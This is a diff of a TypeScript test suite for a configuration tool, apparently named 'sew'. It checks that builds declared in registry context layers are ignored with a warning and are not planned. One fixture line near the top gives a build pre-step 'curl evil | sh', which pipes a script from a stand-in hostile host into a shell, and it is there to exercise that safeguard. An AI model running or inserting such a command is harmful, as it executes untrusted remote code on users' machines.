@@ -41,7 +41,7 @@ describe('builds: merge across layers, as sew', () => {
     builds:
       - {name: remote, image: remote:dev, pre: ["curl evil | sh"]}
   `;
-  const cases: { name: string; files: Record<string, string>; names: string[]; refused?: string[] }[] = [
+  const cases: { name: string; files: Record<string, string>; names: string[]; warning?: string }[] = [
     { name: 'the project list replaces the user list', files: { 'home/sew.yaml': user, 'project/sew.yaml': 'builds:\n  - {name: api, image: api:dev}\n  - {name: web, image: web:dev}\n' }, names: ['api', 'web'] },
     { name: 'an empty project list keeps the user list', files: { 'home/sew.yaml': user, 'project/sew.yaml': 'builds: []\n' }, names: ['tools'] },
     { name: 'a project without builds keeps the user list', files: { 'home/sew.yaml': user, 'project/sew.yaml': 'kind: {name: x}\n' }, names: ['tools'] },
@@ -51,26 +51,27 @@ describe('builds: merge across layers, as sew', () => {
       names: ['api'],
     },
     {
-      name: "a context's builds are planned but refused",
+      name: "a context's builds are ignored, as in sew",
       files: { 'project/reg/base/sew.yaml': context, 'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\n' },
-      names: ['remote'],
-      refused: ['remote'],
+      names: [],
+      warning: 'reg/base/sew.yaml:2:3: "builds" has no effect in a context, as in sew; declare builds in your sew.yaml',
     },
     {
-      name: "a context flag's builds are refused too",
+      name: "a context's builds do not replace the user file's",
+      files: { 'home/sew.yaml': user, 'project/reg/base/sew.yaml': context, 'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\n' },
+      names: ['tools'],
+    },
+    {
+      name: "a context flag's builds are ignored too",
       files: { 'project/reg/base/sew.yaml': 'kind: {name: x}\n', 'project/reg/base/sew--dev.yaml': context, 'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\n' },
-      names: ['remote'],
-      refused: ['remote'],
+      names: [],
+      warning: 'reg/base/sew--dev.yaml:2:3: "builds" has no effect in a context flag file',
     },
   ];
-  it.each(cases)('$name', async ({ files, names, refused = [] }) => {
+  it.each(cases)('$name', async ({ files, names, warning }) => {
     const plan = await planFor({ files, options: { flags: files['project/reg/base/sew--dev.yaml'] ? ['dev'] : [] } });
     expect(plan.builds.map((b) => b.name)).toEqual(names);
-    expect(plan.builds.filter((b) => b.refused).map((b) => b.name)).toEqual(refused);
-    for (const b of plan.builds.filter((b) => b.refused)) {
-      expect(b.refused).toMatch(/^comes from a (context|flag) layer \(reg\/base\/sew(--dev)?\.yaml\), not your own sew.yaml/);
-      expect(b.paths).toBeUndefined();
-    }
+    if (warning) expect(plan.warnings).toContain(warning);
     expect(plan.carried).not.toHaveProperty('builds');
   });
 });
@@ -100,6 +101,19 @@ describe('builds leave the preload list', () => {
     const plan = await planFor({ files: { 'project/sew.yaml': `images:\n  preload:\n    ${preload}\nbuilds:\n  - ${builds}\n` } });
     expect(plan.preload.refs).toEqual(refs);
     expect(plan.preload.skipped).toEqual([]);
+  });
+
+  it("a context's build image stays in the preload list, and nothing is planned to build", async () => {
+    const plan = await planFor({
+      files: {
+        'project/reg/base/sew.yaml': 'images:\n  preload:\n    refs: [acme/api:dev]\nbuilds:\n  - {name: api, image: acme/api:dev}\n',
+        'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\n',
+      },
+      options: { build: true },
+    });
+    expect(plan.preload.refs).toEqual(['docker.io/acme/api:dev']);
+    expect(plan.builds).toEqual([]);
+    expect(plan.needs.builds).toBe(false);
   });
 
   it('the nodes are wired to the preload registry even when only builds use it', async () => {
